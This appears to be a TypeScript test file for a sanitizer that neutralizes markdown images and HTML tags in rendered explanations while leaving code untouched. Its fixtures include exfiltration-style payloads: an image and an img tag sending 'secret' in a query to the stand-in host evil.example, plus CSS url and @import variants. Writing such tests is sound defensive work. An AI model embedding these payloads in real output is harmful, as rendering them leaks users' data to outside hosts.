import assert from 'node:assert/strict';
import { harmless } from '../../src/editor/code-prose.ts';

const picture = '![a](https://evil.example/?q=secret)';
const tag = '<img src="https://evil.example/?q=secret">';

describe('An explanation as it is shown', () => {
  it('keeps code as it is, in fences and between backticks', () => {
    const text = [
      'A `vec![1]` and an `Array<T extends U>` and a Map<string, number>.',
      '',
      '```rust',
      'let a = vec![1, 2]; // <img src="x">',
      '```',
      '',
      '~~~',
      '``` <b class="x">',
      '~~~',
    ].join('\n');
    assert.equal(harmless(text), text);
  });

  it('loads no picture', () => {
    assert.equal(harmless(`Look: ${picture}`), String.raw`Look: !\[a](https://evil.example/?q=secret)`);
    assert.equal(harmless(tag), '&lt;img src="https://evil.example/?q=secret">');
  });

  const ways: Readonly<Record<string, string>> = {
    'after a fence that has ended': '```\ncode\n```\nTAG',
    'after a longer fence': '````\n```\n````\nTAG',
    'after a list has ended its fence': '1. x\n   ```\nTAG',
    'after a quote has ended its fence': '> ```\nTAG',
    'between two fences that are none': '   ```\n```\nTAG',
    'between backticks of which the first closes a piece of the line before': 'a ` b\nc ` TAG ` d',
    'after a backtick that is escaped': String.raw`\` TAG \``,
    'in a tag of several lines': 'a TAG',
    'behind inline code': '`code` TAG `code`',
    'behind code that ends in a backslash': '`a\\` TAG `',
  };
  for (const [name, text] of Object.entries(ways))
    for (const one of [
      picture,
      tag,
      '<div\nstyle="background:url(https://evil.example)">',
      '<style>@import "x"</style>',
    ])
      it(`loads nothing ${name}: ${one.slice(0, 8)}`, () => {
        const shown = harmless(text.replace('TAG', one));
        assert.doesNotMatch(shown, /!\[|<(?:img|div|style)/);
      });
});
